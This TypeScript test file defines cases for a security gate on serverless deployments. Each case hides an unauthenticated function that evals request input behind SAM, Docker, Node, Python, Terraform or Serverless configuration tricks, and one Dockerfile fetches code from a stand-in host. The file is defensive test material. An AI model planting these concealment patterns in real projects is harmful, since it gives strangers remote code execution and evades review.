import { added, foundOrLost, python } from './added.ts';
import type { GateAttack } from './attack.ts';
import { baseFiles, evilCode, writeFiles } from './base.ts';

type Files = Readonly<Record<string, string>>;

const harmless = 'exports.handler = async () => ({ statusCode: 200 });\n';
const evilPython = "def handler(event, context):\n    return eval(event['body'])\n";
const harmlessPython = "def handler(event, context):\n    return {'statusCode': 200}\n";
const told = /Anyone can run code in [\w.]*(?:Evil|Page|page)|not read:/;

const template = (
  properties: string,
  more = '',
  metadata = '',
): string => `${baseFiles['template.yaml']}  Page:
    Type: AWS::Serverless::Function
${metadata}    Properties: { ${properties}, FunctionUrlConfig: { AuthType: NONE } }
${more}`;
const zip = 'Runtime: nodejs22.x, Handler: page.handler, CodeUri: page';
const page: Files = { 'template.yaml': template(zip), 'page/page.js': harmless };
const metadata = (more = ''): string =>
  `    Metadata: { DockerContext: page, Dockerfile: Dockerfile${more} }\n`;
const dockerfile = (more = '', from = 'public.ecr.aws/lambda/nodejs:22'): string =>
  `FROM ${from}\nCOPY page.js \${LAMBDA_TASK_ROOT}/\n${more}CMD ["page.handler"]\n`;
const image: Files = {
  'template.yaml': template('PackageType: Image', '', metadata()),
  'page/page.js': harmless,
  'page/Dockerfile': dockerfile(),
};
const terraform = (more = ''): string => `resource "aws_lambda_function" "page" {
  function_name = "page"
  runtime       = "nodejs22.x"
  handler       = "page.handler"
  filename      = data.archive_file.a.output_path
  role          = "arn:aws:iam::1:role/a"
}
data "archive_file" "a" {
  type        = "zip"
  source_dir  = "\${path.module}/src"
  output_path = "a.zip"
}
resource "aws_lambda_function_url" "u" {
  function_name      = aws_lambda_function.page.function_name
  authorization_type = "NONE"
}
${more}`;
const inTerraform: Files = {
  'tf/main.tf': terraform(),
  'tf/src/page.js': harmless,
  'tf/src/evil.js': evilCode.replace('event.body', "'1'"),
};
const service = (more = '', handler = 'page.handler'): string => `service: shop
provider: { name: aws, runtime: nodejs22.x }
functions:
  page: { handler: ${handler}, events: [{ httpApi: 'GET /page' }] }
${more}`;
const inService: Files = { 'svc/serverless.yml': service(), 'svc/page.js': harmless };

const changed = (says: string, base: Files, files: Files, words = told): GateAttack => ({
  says,
  base,
  change: (folder) => writeFiles(folder, files),
  told: words,
});

const declared: readonly GateAttack[] = [
  changed('an application of a public repository', page, {
    'template.yaml': template(
      zip,
      '  Door:\n    Type: AWS::Serverless::Application\n    Properties: { Location: { ApplicationId: "arn:aws:serverlessrepo:us-east-1:1:applications/door", SemanticVersion: 1.0.0 } }\n',
    ),
  }),
  changed('a nested stack in a bucket', page, {
    'template.yaml': template(
      zip,
      '  Door:\n    Type: AWS::CloudFormation::Stack\n    Properties: { TemplateURL: "https://s3.amazonaws.com/b/door.yaml" }\n',
    ),
  }),
  changed('a macro of the account', page, {
    'template.yaml': template(zip).replace(
      'Transform: AWS::Serverless-2016-10-31',
      'Transform: [Doors, AWS::Serverless-2016-10-31]',
    ),
  }),
  changed('resources that are included from a bucket', page, {
    'template.yaml': template(
      zip,
      "  Fn::Transform: { Name: AWS::Include, Parameters: { Location: 's3://b/door.yaml' } }\n",
    ),
  }),
  changed('code of a known function from a bucket', page, {
    'template.yaml': template(zip.replace('CodeUri: page', 'CodeUri: s3://b/page.zip')),
  }),
  changed('a layer of a known function', page, {
    'template.yaml': template(`${zip}, Layers: ["arn:aws:lambda:us-east-1:1:layer:tools:1"]`),
  }),
  changed('a handler in a layer', page, {
    'template.yaml': template(zip.replace('Handler: page.handler', 'Handler: /opt/page.handler')),
  }),
  changed('a runtime of its own with a script that starts it', page, {
    'template.yaml': template(zip.replace('nodejs22.x', 'provided.al2023')),
    'page/bootstrap': '#!/bin/sh\nexec node real.js\n',
  }),
  changed('options of Node.js for all functions', page, {
    'template.yaml': template(zip).replace(
      'Resources:',
      'Globals: { Function: { Environment: { Variables: { NODE_OPTIONS: --require ./real.js } } } }\nResources:',
    ),
    'page/real.js': evilCode,
  }),
  changed(
    'a parameter that names the folder of the code',
    {
      ...page,
      'template.yaml': `${template(zip.replace('CodeUri: page', 'CodeUri: !Ref Folder'))}Parameters: { Folder: { Type: String, Default: page } }\n`,
    },
    {
      'template.yaml': `${template(zip.replace('CodeUri: page', 'CodeUri: !Ref Folder'))}Parameters: { Folder: { Type: String, Default: real } }\n`,
      'real/page.js': evilCode,
    },
  ),
  changed('a function behind a condition that a setting of the deployment fulfils', page, {
    'template.yaml': `${template(zip, '  Evil:\n    Type: AWS::Serverless::Function\n    Condition: IsProd\n    Properties: { Runtime: nodejs22.x, Handler: evil.handler, FunctionUrlConfig: { AuthType: NONE } }\n')}Parameters: { Stage: { Type: String, Default: dev } }\nConditions: { IsProd: !Equals [!Ref Stage, prod] }\n`,
    'evil.js': evilCode,
    'samconfig.toml': '[default.deploy.parameters]\nparameter_overrides = "Stage=prod"\n',
  }),
];

const inImages: readonly GateAttack[] = [
  changed('another base image', image, { 'page/Dockerfile': dockerfile('', 'example.com/tools/nodejs:22') }),
  changed(
    'an argument of the build that names the file',
    {
      ...image,
      'template.yaml': template('PackageType: Image', '', metadata(', DockerBuildArgs: { SRC: page.js }')),
      'page/Dockerfile': dockerfile().replace('COPY page.js', 'ARG SRC\nCOPY $SRC'),
    },
    {
      'template.yaml': template(
        'PackageType: Image',
        '',
        metadata(', DockerBuildArgs: { SRC: real/page.js }'),
      ),
      'page/real/page.js': evilCode,
    },
  ),
  changed('a stage of the build that the template chooses', image, {
    'template.yaml': template('PackageType: Image', '', metadata(', DockerBuildTarget: other')),
    'page/Dockerfile': `${dockerfile().replace('nodejs:22', 'nodejs:22 AS other').replace('COPY page.js', 'COPY real/page.js')}FROM public.ecr.aws/lambda/nodejs:22\nCOPY page.js \${LAMBDA_TASK_ROOT}/\nCMD ["page.handler"]\n`,
    'page/real/page.js': evilCode,
  }),
  changed(
    'a script that ENTRYPOINT starts',
    {
      ...image,
      'page/Dockerfile': `${dockerfile()}COPY entry.sh /entry.sh\nENTRYPOINT ["/entry.sh"]\n`,
      'page/entry.sh': '#!/bin/sh\nexec /lambda-entrypoint.sh page.handler\n',
    },
    {
      'page/entry.sh': '#!/bin/sh\ncp real.js page.js\nexec /lambda-entrypoint.sh page.handler\n',
      'page/real.js': evilCode,
    },
  ),
  changed(
    'a file that is left out of an image',
    { ...image, 'page/Dockerfile': dockerfile().replace('COPY page.js', 'COPY . ') },
    {
      'page/Dockerfile': dockerfile('ADD https://example.com/page.js page.js\n').replace(
        'COPY page.js',
        'COPY . ',
      ),
      'page/.dockerignore': 'page.js\n',
    },
  ),
];

const loaded: readonly GateAttack[] = [
  changed(
    'a module of two endings, of which the runtime takes the other',
    {
      ...page,
      'page/page.js':
        "const { run } = require('./data');\nexports.handler = async (event) => run(event.body);\n",
      'page/data.json': '{}',
    },
    {
      'page/data.js': 'exports.run = (text) => eval(text);\n',
    },
  ),
  changed(
    'an alias of imports in a package.json',
    {
      ...page,
      'page/page.js':
        "const { validate } = require('#uuid');\nexports.handler = async (event) => validate(event.body);\n",
      'page/package.json': '{"imports":{"#uuid":"uuid"}}',
    },
    {
      'page/package.json': '{"imports":{"#uuid":"./run.js"}}',
      'page/run.js': 'exports.validate = (text) => eval(text);\n',
    },
  ),
  changed('a condition of exports that a variable sets', page, {
    'template.yaml': template(`${zip}, Environment: { Variables: { NODE_OPTIONS: --conditions=real } }`),
    'page/page.js': "const { run } = require('#run');\nexports.handler = async (event) => run(event.body);\n",
    'page/package.json': '{"imports":{"#run":{"real":"./real.js","default":"./ok.js"}}}',
    'page/real.js': 'exports.run = (text) => eval(text);\n',
    'page/ok.js': 'exports.run = (text) => text.length;\n',
  }),
  changed('native code that a handler loads', page, {
    'page/page.js':
      "const { run } = require('./tools.node');\nexports.handler = async (event) => run(event.body);\n",
    'page/tools.node': 'x',
  }),
  added(
    'native code beside a module of Python',
    {
      'evil.py': 'from helper import handler\n',
      'helper.py': harmlessPython,
      'helper.cpython-313-x86_64-linux-gnu.so': 'x',
    },
    foundOrLost,
    python,
  ),
  added(
    'a package of Python beside a module of its name',
    {
      'evil.py': 'from helper import handler\n',
      'helper.py': harmlessPython,
      'helper/__init__.py': evilPython,
    },
    foundOrLost,
    python,
  ),
  added(
    'an archive on the path of Python',
    {
      'evil.py': "import sys\n\nsys.path.insert(0, 'lib.zip')\nfrom helper import handler\n",
      'helper.py': harmlessPython,
      'lib.zip': 'x',
    },
    foundOrLost,
    python,
  ),
];

const inTools: readonly GateAttack[] = [
  changed('an override file of Terraform', inTerraform, {
    'tf/override.tf': 'resource "aws_lambda_function" "page" {\n  handler = "real.handler"\n}\n',
    'tf/src/real.js': evilCode,
  }),
  changed(
    'a file of values of Terraform',
    {
      ...inTerraform,
      'tf/main.tf': `${terraform().replace('"page.handler"', 'var.handler')}variable "handler" { default = "page.handler" }\n`,
    },
    {
      'tf/prod.auto.tfvars': 'handler = "real.handler"\n',
      'tf/src/real.js': evilCode,
    },
  ),
  changed(
    'a function of Terraform in JSON',
    inTerraform,
    {
      'tf/more.tf.json': JSON.stringify({
        resource: {
          aws_lambda_function: {
            evil: {
              function_name: 'Evil',
              runtime: 'nodejs22.x',
              handler: 'real.handler',
              filename: '${data.archive_file.a.output_path}',
              role: 'arn:aws:iam::1:role/a',
            },
          },
          aws_lambda_function_url: {
            evil: { function_name: '${aws_lambda_function.evil.function_name}', authorization_type: 'NONE' },
          },
        },
      }),
      'tf/src/real.js': evilCode,
    },
    /can run code in|not read:/,
  ),
  changed('functions of a service from a program', inService, {
    'svc/serverless.yml': service().replace(/functions:[\s\S]*/, 'functions: ${file(functions.js)}\n'),
    'svc/functions.js': "module.exports = { page: { handler: 'real.handler' } };\n",
  }),
  changed('a packed artefact of a service', inService, {
    'svc/serverless.yml': service('package: { artifact: page.zip }\n'),
    'svc/page.zip': 'x',
  }),
  changed(
    'another configuration of webpack in a service',
    { ...inService, 'svc/serverless.yml': service('plugins: [serverless-webpack]\n') },
    {
      'svc/serverless.yml': service(
        'plugins: [serverless-webpack]\ncustom:\n  webpack:\n    webpackConfig: tools/own.js\n',
      ),
      'svc/tools/own.js': "module.exports = { resolve: { alias: { uuid: './run.js' } } };\n",
    },
  ),
];

/** Changes of a reader who had not seen the other tables. */
export const strangers: readonly GateAttack[] = [...declared, ...inImages, ...loaded, ...inTools];
